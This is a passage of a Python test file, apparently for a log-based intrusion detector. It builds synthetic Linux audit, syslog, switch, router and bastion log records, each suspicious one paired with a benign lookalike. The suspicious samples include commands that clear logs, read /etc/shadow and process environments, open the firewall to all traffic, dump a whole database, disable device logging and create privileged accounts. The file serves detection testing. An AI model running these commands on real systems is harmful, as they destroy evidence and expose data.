    return {"__REALTIME_TIMESTAMP": str(int(when.timestamp() * 1e6)), "_HOSTNAME": host, "SYSLOG_IDENTIFIER": program, "MESSAGE": message}


for how, record_of in {"filebeat": of_filebeat, "fluent-bit": of_fluent_bit, "journald": of_journal}.items():
    by = carried(how, record_of)
    spelling(f"sudoers-changed/{how}", by(by_sudo("lin", "web-01", "/usr/bin/vim /etc/sudoers")), by(by_sudo("lin", "web-01", "/usr/sbin/visudo -c")))
    spelling(f"log-cleared/{how}/root-shell", by(roots("/usr/bin/truncate -s 0 /var/log/secure")), by(roots("/usr/bin/tail /var/log/secure")))
    spelling(f"cron-written-by-a-shell/{how}", by(opened("/etc/cron.d/upd", "441")), by(opened("/etc/cron.d/upd", READ, executable="/usr/bin/cat")))


def laurel(call, path, comm, flags="0x0", clock="11:00"):
    body = {"ID": "1773630000.100:901", "SYSCALL": {"arch": "0xc000003e", "syscall": 257, "success": "yes", "exit": 3, "a2": flags, "ppid": 7, "pid": 8, "auid": 1001, "uid": 0, "euid": 0, "tty": "pts0", "ses": 9,
                                                      "comm": comm, "exe": f"/usr/bin/{comm}", "key": "watch", "SYSCALL": call, "AUID": "lin", "EUID": "root"}, "CWD": {"cwd": "/root"}, "PATH": [{"item": 0, "name": path, "nametype": "NORMAL"}]}
    return said((clock, "web-01", "laurel", json.dumps(body), 46))


spelling("sensitive-file-read/laurel", laurel("openat", "/etc/shadow", "less"), laurel("openat", "/etc/shadow", "passwd"))
spelling("log-cleared/laurel", laurel("unlinkat", "/var/log/messages", "rm"), laurel("unlinkat", "/var/log/messages-20260301.gz", "rm"))
spelling("clock-set-back/laurel", laurel("clock_settime", "/", "date"), laurel("clock_settime", "/", "chronyd"))


# ---------------------------------------------------------------------------------------------------- switches and routers

def vrp(command):
    return lambda world: world.lines.append((world.at("11:00"), f'<189>{world.at("11:00").isoformat()} 汇聚-SW-01 %%01SHELL/5/CMDRECORD(s)[99]:Recorded command information. (Task=VT0, Ip={BASTION_IP}, '
                                             f'VpnName=, User=he, AuthenticationMethod="Local-user", Command="{command}")'))


def ios(command):
    return lambda world: world.lines.append((world.at("11:00"), f'<189>486: rtr-01: {world.at("11:00").isoformat()}: %PARSER-5-CFGLOG_LOGGEDCMD: User:he  logged command:{command}'))


for what, of_vrp, shown, of_ios, harmless in [("audit-rules-removed", "undo info-center enable", "display info-center", "no logging host 10.9.1.1", "no logging console"), ("log-cleared", "reset logbuffer", "display logbuffer", "do clear logging", "do clear counters"),
                                              ("account-made", "local-user svc2 privilege level 15", "display local-user", "username svc2 privilege 15 secret *", "description username"), ("firewall-flushed", "undo acl 3000", "display acl all", "no access-list 101", "no shutdown"),
                                              ("clock-set-back", "clock datetime 02:00:00 2026-03-15", "display clock", "do clock set 02:00:00 15 March 2026", "clock timezone CST 8")]:
    spelling(f"{what}/vrp", vrp(of_vrp), vrp(shown))
    spelling(f"{what}/ios", ios(of_ios), ios(harmless))


# ------------------------------------------------------------------------------------------------ and in still other words

spelling("unit-added/enabled", by_sudo("lin", "web-01", "/usr/bin/systemctl enable --now netsyncd.service"), by_sudo("lin", "web-01", "/usr/bin/systemctl enable --now nginx"))
spelling("firewall-flushed/all-let-in", roots("/usr/sbin/iptables -I INPUT -j ACCEPT"), roots("/usr/sbin/iptables -I INPUT -s 10.1.0.0/16 -j ACCEPT"))
spelling("database-dumped/oracle", roots("/u01/app/bin/exp system/x full=y file=/tmp/f.dmp", who="ma", host="db-01"), roots("/u01/app/bin/sqlplus -V", who="ma", host="db-01"))
spelling("sensitive-file-read/environment", roots("/usr/bin/strings /proc/811/environ"), roots("/usr/bin/cat /proc/meminfo"))
spelling("data-copied-away/staged", roots("/usr/bin/tar czf /tmp/all.tgz /data/docs"), roots("/usr/bin/tar czf /tmp/conf.tgz /etc/nginx"))
spelling("root-shell/typed", jumpserver("session_command_log", user="He(he)", asset="web-01", account="he", input="sudo su -", output="", session="s-1", timestamp=1773630000, risk_level=0),
         jumpserver("session_command_log", user="He(he)", asset="web-01", account="he", input="sudo -l", output="", session="s-1", timestamp=1773630000, risk_level=0))
spelling("account-made/bastion-old", jumpserver("operation_log", user="Lin(lin)", action="create", resource_type="用户", resource="zhao(zhao)", remote_addr="10.20.1.11"), jumpserver("operation_log", user="Lin(lin)", action="update", resource_type="用户", resource="zhao(zhao)", remote_addr="10.20.1.11"))
spelling("service-account-logs-in/mysql", logins(("11:00", "mysql", "db-01", BASTION_IP)), None)
spelling("guessing/slow", said(*[(f"{i // 3:02}:{i % 3 * 20:02}", "web-01", "sshd", f"Failed password for root from 198.51.100.41 port {41000 + i} ssh2", 86, 4400 + i) for i in range(60)][:72]), said(*[(f"{i:02}:10", "web-01", "sshd", f"Failed password for root from 198.51.100.41 port {41000 + i} ssh2", 86, 4400 + i) for i in range(5)]))


def documents(count):
    return said(*[(f"11:{i % 50:02}", "web-01", "nginx", f'10.20.1.11 - lin [16/Mar/2026:11:{i % 50:02}:00 +0800] "GET /dav/docs/{i:04}.pdf HTTP/1.1" 200 48211 "-" "Mozilla/5.0"', 190) for i in range(count)])


spelling("mass-download/web", documents(120), documents(5))
